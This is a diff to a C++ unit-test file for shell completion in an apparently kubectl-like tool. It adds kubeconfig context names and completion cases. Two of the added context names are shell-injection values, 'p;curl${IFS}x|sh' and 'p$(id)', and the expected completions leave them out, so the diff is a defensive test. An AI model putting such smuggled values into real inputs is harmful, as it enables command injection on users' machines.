@@ -23,7 +23,9 @@ using Words = std::vector<std::string>;
 constexpr const char* config =
     "{kind: Config, clusters: [{name: c1, cluster: {server: 'https://127.0.0.1:1'}}],"
     " contexts: [{name: prod, context: {cluster: c1, user: u1}}, {name: \"a\\e[31m\", context: "
-    "{cluster: c1}}], users: [{name: u1, user: {token: t}}], current-context: prod}";
+    "{cluster: c1}}, {name: 'p;curl${IFS}x|sh', context: {cluster: c1}}, {name: 'p$(id)', context: "
+    "{cluster: c1}}, {name: 'p q', context: {cluster: c1}}, {name: 'arn:aws:eks:eu:1:cluster/x_1', "
+    "context: {cluster: c1}}], users: [{name: u1, user: {token: t}}], current-context: prod}";
 
 /// With a kubeconfig whose server nobody listens at.
 class Completions : public testing::Test {
@@ -91,7 +93,11 @@ INSTANTIATE_TEST_SUITE_P(
         Asked{"PodsOfMatch", {"match", ""}, "pod/\n:6\n"},
         Asked{"Clusters", {"--cluster", ""}, "c1\n:4\n"},
         Asked{"Users", {"pod", "--user="}, "u1\n:4\n"},
-        Asked{"ContextsThatAreNoEscapes", {"--context", ""}, "prod\n:4\n"},
+        Asked{"ContextsThatNoShellTakesForMore",
+              {"--context", ""},
+              "arn:aws:eks:eu:1:cluster/x_1\nprod\n:4\n"},
+        Asked{"TypesThatNobodyHasHeardOf", {"widgets/"}, ":4\n"},
+        Asked{"RunsOfAServerThatIsAway", {"attach", ""}, ":4\n"},
         Asked{"NamesOfAServerThatIsAway", {"pod", ""}, ":4\n"},
         Asked{"SlashedNamesOfAServerThatIsAway", {"deploy/"}, ":4\n"},
         Asked{"NothingAtAll", {"help", "pod", ""}, ":4\n"}),
@@ -122,6 +128,16 @@ TEST(HalfTyped, KnowsWhatWasGivenBefore) {
   EXPECT_THAT(values_of(half, "namespace"), ElementsAre("till", "shop"));
   EXPECT_THAT(values_of(half, "context"), ElementsAre("prod"));
   EXPECT_EQ(half.flag, nullptr);
+}
+
+TEST(HalfTyped, KnowsShorthandsOfSwitches) {
+  CommandLine line;
+  EXPECT_THAT(values_of(read_half_typed(line, Words{"images", "-A", ""}), "all-namespaces"),
+              ElementsAre("true"));
+  const Words words{"images", "-A=false", "-n=shop", ""};
+  const HalfTyped half = read_half_typed(line, words);
+  EXPECT_THAT(values_of(half, "all-namespaces"), ElementsAre("false"));
+  EXPECT_THAT(values_of(half, "namespace"), ElementsAre("shop"));
 }
 
 TEST(HalfTyped, KnowsTheFlagWhoseValueIsMissing) {
